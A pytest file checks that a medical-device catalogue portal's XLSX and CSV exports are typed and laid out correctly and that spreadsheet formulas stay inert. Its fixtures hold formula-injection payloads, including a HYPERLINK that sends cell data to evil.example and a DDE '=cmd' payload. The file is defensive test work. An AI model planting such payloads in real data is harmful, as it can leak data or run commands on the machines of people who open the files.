"""Every XLSX/CSV export, read back with openpyxl and csv: typed cells, frozen header, autofilter, widths, and no
live formulas (CSV/formula injection through a company's product name)."""

import csv
import io
from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from portal.accounts.models import Role
from portal.assessments import services
from portal.assessments.models import Outcome
from tests.conftest import login
from tests.factories_assessments import assessments_of, build_two_hospitals, publish

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
EVIL = {EVIL_NAME, "+86 21 5555", "-1+2", "@SUM(1,1)"}


def _sheet(response, index=0):
    assert response.status_code == 200, response.status_code
    assert response.headers["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    return load_workbook(io.BytesIO(response.data)).worksheets[index]


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"  # one charset
    assert response.data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))


def _column(sheet, header):
    return [c.value for c in sheet[1]].index(header) + 1


def _assert_layout(sheet):
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, sheet.max_column).column_letter}{sheet.max_row}"
    assert all(cell.font.bold for cell in sheet[1])
    assert all(sheet.column_dimensions[c.column_letter].width for c in sheet[1])


def _assert_no_formulas(sheet):
    texts = set()
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str) and cell.value in EVIL:
                assert cell.data_type == "s" and cell.quotePrefix
                texts.add(cell.value)
    return texts


@pytest.fixture
def evil(world):
    world.entry(EVIL_NAME, model="+86 21 5555", company=("@SUM(1,1)", ""), indications="-1+2")
    world.entry("超导磁共振成像系统", model="uMR 890")
    world.index()


@pytest.mark.parametrize("url", ["/catalogues/SH-T/export", "/search/export"])
def test_catalogue_and_search_exports_are_typed_and_inert(client, evil, url):
    sheet = _sheet(client.get(f"{url}.xlsx"))
    _assert_layout(sheet)
    assert _assert_no_formulas(sheet) == EVIL
    listed = sheet.cell(2, _column(sheet, "入目录日期"))
    assert listed.is_date and listed.value == datetime(2024, 5, 1) and listed.number_format == "yyyy-mm-dd"
    name = _column(sheet, "产品名称")
    width = sheet.column_dimensions[sheet.cell(1, name).column_letter].width
    assert width >= len("超导磁共振成像系统") * 2  # CJK characters are two columns wide
    rows = _csv(client.get(f"{url}.csv"))
    cells = {value for row in rows[1:] for value in row}
    assert {"'" + text for text in EVIL} <= cells and not cells & EVIL
    assert "2024-05-01" in cells


def test_hospital_queue_export_has_date_and_time_cells(db, client, make_catalogue, make_hospital, make_user):
    two = build_two_hospitals(make_catalogue, make_hospital, make_user)
    first = assessments_of(two["a"])[0]
    services.decide(two["user_a"], first, Outcome.DECLINED, "=cmd|' /C calc'!A0")
    db.session.commit()
    login(client, two["user_a"].email)
    sheet = _sheet(client.get("/assessments/export.xlsx"))
    _assert_layout(sheet)
    due = sheet.cell(2, _column(sheet, "截止日期"))
    assert due.is_date and due.number_format == "yyyy-mm-dd"
    decided = [sheet.cell(r, _column(sheet, "决定时间")) for r in range(2, sheet.max_row + 1)]
    assert [c.number_format for c in decided if c.value] == ["yyyy-mm-dd hh:mm"]
    reason = [sheet.cell(r, _column(sheet, "理由")) for r in range(2, sheet.max_row + 1) if sheet.cell(r, 9).value]
    assert reason[0].data_type == "s" and reason[0].value == "=cmd|' /C calc'!A0"
    rows = _csv(client.get("/assessments/export.csv"))
    assert "'=cmd|' /C calc'!A0" in {v for row in rows for v in row}


def test_compliance_export_rate_is_a_percentage_number(db, client, make_catalogue, make_hospital, make_user):
    two = build_two_hospitals(make_catalogue, make_hospital, make_user)
    mine = assessments_of(two["a"])
    services.decide(two["user_a"], mine[0], Outcome.ADMITTED)
    services.decide(two["user_a"], mine[1], Outcome.ADMITTED, now=mine[1].due_at.replace(year=2099))
    old = publish(two["catalogue"], entries=1, days_ago=40)
    login(client, make_user(Role.REVIEWER, catalogues=[two["catalogue"]]).email)
    response = client.get(f"/compliance/batches/{two['batch'].id}/export.xlsx")
    sheet = _sheet(response)
    _assert_layout(sheet)
    rows = {r[0].value: r for r in sheet.iter_rows(min_row=2)}
    rate = rows["甲医院"][_column(sheet, "按时完成率") - 1]
    assert rate.value == 0.5 and rate.number_format == "0.0%" and rate.data_type == "n"
    assert rows["甲医院"][_column(sheet, "任务总数") - 1].value == 4
    overdue = _sheet(client.get(f"/compliance/batches/{old.id}/export.xlsx"), index=1)
    _assert_layout(overdue)
    due = overdue.cell(2, _column(overdue, "截止日期"))
    assert due.is_date and isinstance(due.value, datetime) and due.value.date() < date.today()
    assert overdue.cell(2, _column(overdue, "逾期天数")).value > 0
    table = _csv(client.get(f"/compliance/batches/{two['batch'].id}/export.csv"))
    assert {r[0]: r for r in table[1:]}["甲医院"][-1] == "50.0%"
